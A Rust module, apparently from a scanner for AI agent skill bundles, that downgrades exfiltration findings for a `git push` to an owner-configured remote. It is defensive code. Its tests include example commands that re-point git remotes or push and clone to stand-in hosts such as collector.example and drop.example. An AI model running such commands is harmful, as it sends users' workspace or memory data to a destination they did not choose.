//! A repository pushed to the remote its owner configured (round 29b, sets28b).
//!
//! Backup and sync scripts commit a folder the agent keeps (its workspace, its memory) and run
//! `git push origin HEAD`. The push carries the folder's commits to the remote the user set up for
//! that repository; the skill neither names nor chooses the destination. A skill that wants the
//! folder somewhere else has to point a remote there first (`git remote add`, `git remote
//! set-url`, `git config remote.<name>.url`) or push to an address (`git push https://…`), and then
//! the destination is visible and judged.
//!
//! A `secret-to-network` verdict whose destination the file does not show drops to `medium` when
//! the request is a `git push` to a named remote (a bare word such as `origin`, or no remote at
//! all), and no file of the bundle adds or re-points a remote or pushes to an address.

use super::Verdict;
use crate::scan::rules::Severity;

/// Whether a statement is `git push` to a named remote (or the default), not to an address.
pub(super) fn push_to_named_remote(text: &str) -> bool {
    let l = crate::ascii_lowered(text);
    let Some(i) = l.find("git push") else {
        return false;
    };
    // The words after `git push`, up to the end of the command.
    let rest = l[i + "git push".len()..]
        .split(['|', ';', '&', ')', '\n'])
        .next()
        .unwrap_or("");
    rest.split_whitespace()
        .filter(|w| !w.starts_with('-'))
        .all(|w| !w.contains("://") && !w.contains('@') && !w.contains('$') && !w.starts_with('/'))
}

/// Whether a text adds or re-points a git remote, or pushes to an address.
pub(super) fn points_a_remote(text: &str) -> bool {
    let l = crate::ascii_lowered(text);
    l.contains("remote add")
        || l.contains("remote set-url")
        || (l.contains("remote.") && l.contains(".url"))
        || l.contains("pushurl")
        // A config written by hand (`[remote "origin"]`), or a clone from an address the skill
        // writes: the clone's `origin` is that address, chosen by the skill (round 30c).
        || l.contains("[remote \"")
        || l.lines().any(|line| {
            line.contains("git push") && !push_to_named_remote(line)
                || line.find("git clone").is_some_and(|i| {
                    line[i..]
                        .split(['|', ';', '&', ')'])
                        .next()
                        .is_some_and(|c| c.contains("://") || c.contains('@'))
                })
        })
}

/// Lower a verdict with no visible destination on a push to the configured remote (see the
/// module's documentation).
pub(super) fn soften(unseen: bool, sink_text: &str, bundle_texts: &[&str], v: Verdict) -> Verdict {
    if !unseen
        || v.rule != "exfiltration.secret-to-network"
        || v.severity <= Severity::Medium
        || v.severity == Severity::Critical
        || !push_to_named_remote(sink_text)
        || bundle_texts.iter().any(|t| points_a_remote(t))
    {
        return v;
    }
    Verdict {
        severity: Severity::Medium,
        rule: v.rule,
        why: format!(
            "{}; the request is a `git push` to the remote the repository already has, which no file of the skill sets: the commits go where the owner pointed them",
            v.why
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::{points_a_remote, push_to_named_remote};

    #[test]
    fn pushes_to_the_configured_remote() {
        assert!(push_to_named_remote(
            "git push origin HEAD 2>&1 | tee -a log"
        ));
        assert!(push_to_named_remote("git push"));
        assert!(!points_a_remote(
            "cd \"$W\"\ngit add -A\ngit commit -m x\ngit push origin HEAD\n"
        ));
    }

    #[test]
    fn remotes_set_by_the_skill_are_not() {
        assert!(!push_to_named_remote(
            "git push https://host.example/x.git HEAD"
        ));
        assert!(!push_to_named_remote("git push \"$REMOTE\" main"));
        assert!(points_a_remote(
            "git remote add backup https://collector.example/x.git"
        ));
        assert!(points_a_remote("git push git@host.example:me/x.git"));
        assert!(points_a_remote(
            "git clone -q https://drop.example/d.git /tmp/d && cd /tmp/d"
        ));
        assert!(points_a_remote(
            "printf '[remote \"origin\"]\\n' >> .git/config"
        ));
        assert!(!points_a_remote("git clone \"$MEMORY_REPO\" \"$W\""));
    }
}
